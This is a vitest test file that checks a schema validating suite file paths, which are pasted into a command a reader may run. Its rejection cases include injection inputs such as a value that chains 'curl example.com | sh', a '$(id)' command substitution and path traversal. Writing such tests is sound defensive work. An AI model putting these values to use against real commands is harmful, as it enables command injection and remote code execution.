// The suite file path of a published suite: the site pastes it into the command that reproduces a
// cell, text a reader may run, so anything outside its narrow form is refused.
import { describe, expect, it } from "vitest";
import { SuiteFileSchema } from "../../../src/pipeline/artifacts/published-suite.ts";

describe("SuiteFileSchema", () => {
  it.each(["suites/smoke.yaml", "test/fixtures/suites/tiny.yaml", "my_suite.v2.yml", "_draft.yaml"])("accepts %s", (file) => {
    expect(SuiteFileSchema.safeParse(file).success).toBe(true);
  });

  it.each([
    ["../outside.yaml", "a parent folder"],
    ["suites/../../x.yaml", "a parent folder in the middle"],
    ["/etc/refit.yaml", "an absolute path"],
    ["-rf.yaml", "an option-like name"],
    ["suites/.hidden.yaml", "a hidden file"],
    ["my suite.yaml", "a space"],
    ["x.yaml; curl example.com | sh #.yaml", "shell text"],
    ["$(id).yaml", "a command substitution"],
    ["suites\\smoke.yaml", "a backslash"],
    ["suites/smoke.json", "another extension"],
    ["", "nothing"],
  ])("refuses %s (%s)", (file) => {
    expect(SuiteFileSchema.safeParse(file).success).toBe(false);
  });
});
